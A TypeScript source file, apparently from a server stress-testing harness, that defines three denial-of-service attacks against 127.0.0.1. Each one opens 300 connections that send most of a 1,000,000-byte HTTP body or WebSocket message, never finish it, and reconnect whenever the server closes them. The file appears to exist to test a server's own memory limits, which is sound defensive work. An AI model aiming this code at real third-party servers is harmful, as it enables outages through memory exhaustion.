import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, type Target, type Tally, aborted, countStatus, open } from './attack.ts'

const PART = Buffer.alloc(900_000, 0x20)

const HANDSHAKE =
  'GET /v1/ws HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MTIzNDU2Nzg5MDEyMzQ1Ng==\r\n\r\n'

/** A ping without data, masked with zeroes. */
const PING = Buffer.of(0x89, 0x80, 0, 0, 0, 0)

/** The head of a masked text frame of 1,000,000 bytes. */
function frameHead(isLast: boolean, length: number): Buffer {
  const head = Buffer.alloc(14)
  head[0] = isLast ? 0x81 : 0x01
  head[1] = 0xff
  head.writeBigUInt64BE(BigInt(length), 2)
  return head
}

/** Opens 300 connections, 100 a second, sends the begin of something over each, and begins again where it is closed. */
async function begin(
  { port, intensity }: Target,
  tally: Tally,
  signal: AbortSignal,
  { first, beat = null }: { first: readonly Buffer[]; beat?: Buffer | null },
): Promise<void> {
  const attack = async (n: number): Promise<void> => {
    await sleep(n * 10)
    while (!signal.aborted) {
      tally.sent++
      const socket = open(port, tally)
      countStatus(socket, tally)
      for (const bytes of first) socket.write(bytes)
      const timer = beat === null ? undefined : setInterval(() => socket.write(beat), 500)
      const stop = (): unknown => socket.destroy()
      signal.addEventListener('abort', stop, { once: true })
      await new Promise((resolve) => socket.on('close', resolve))
      signal.removeEventListener('abort', stop)
      clearInterval(timer)
      tally.count('closed')
      await sleep(100)
    }
  }
  const all = Array.from({ length: Math.max(1, Math.round(300 * intensity)) }, (_, n) => attack(n))
  await aborted(signal)
  await Promise.all(all)
}

/** Memory that a client takes by not sending the rest. */
export const unfinished: readonly Attack[] = [
  {
    name: 'unfinished-bodies',
    about: '300 bodies of which 900,000 of 1,000,000 bytes come, 100 a second; again where the server closes.',
    run: (target, tally, signal) => {
      const head =
        'POST /count HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n'
      return begin(target, tally, signal, { first: [Buffer.from(head), PART] })
    },
  },
  {
    name: 'unfinished-messages',
    about:
      '300 WebSocket messages in one frame, of which 900,000 of 1,000,000 bytes come, 100 a second; again where the server closes.',
    run: (target, tally, signal) =>
      begin(target, tally, signal, { first: [Buffer.from(HANDSHAKE), frameHead(true, 1_000_000), PART] }),
  },
  {
    name: 'unfinished-fragments',
    about:
      '300 WebSocket messages whose first fragment of 900,000 bytes comes whole, and pings after it; again where the server closes.',
    run: (target, tally, signal) =>
      begin(target, tally, signal, { first: [Buffer.from(HANDSHAKE), frameHead(false, 900_000), PART], beat: PING }),
  },
]
